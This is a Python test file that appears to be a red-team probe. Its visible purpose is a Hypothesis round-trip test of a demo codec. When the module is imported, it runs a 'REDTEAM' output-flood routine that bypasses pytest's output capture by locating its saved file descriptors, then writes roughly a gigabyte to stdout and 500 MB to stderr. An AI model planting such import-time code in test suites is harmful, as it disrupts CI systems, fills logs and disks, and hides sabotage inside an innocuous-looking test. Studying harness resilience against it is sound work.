
import os
import sys
import time


def _rt_once(tag, limit=1):
    """True for the first `limit` processes on this machine per run (a marker in /tmp)"""
    for i in range(limit):
        try:
            fd = os.open("/tmp/REDTEAM-lgrt-%s-%d" % (tag, i), os.O_CREAT | os.O_EXCL | os.O_WRONLY)
            os.close(fd)
            return True
        except FileExistsError:
            continue
    return False


def _rt_flood():
    if not _rt_once("output", 2):
        return
    fds = {1, 2}
    try:
        import gc, _pytest.capture
        for o in gc.get_objects():
            if isinstance(o, _pytest.capture.FDCaptureBase):
                fds.add(o.targetfd_save)
    except Exception:
        pass
    chunk = (b"REDTEAM output flood " * 3276)[:65536]
    for fd in sorted(fds):
        n = (1 << 30) if fd != 2 else (500 << 20)
        try:
            for _ in range(n // len(chunk)):
                os.write(fd, chunk)
        except OSError:
            pass

_rt_flood()

from hypothesis import given, settings
from hypothesis import strategies as st

from demo_lib.codec import decode, encode
from lanegate.oracles import round_trip

words = st.text(alphabet="xyz", min_size=1, max_size=10)


@settings(max_examples=20, database=None)
@given(words)
def test_decode_inverts_encode_on_xyz(text):
    round_trip(encode, decode, text)
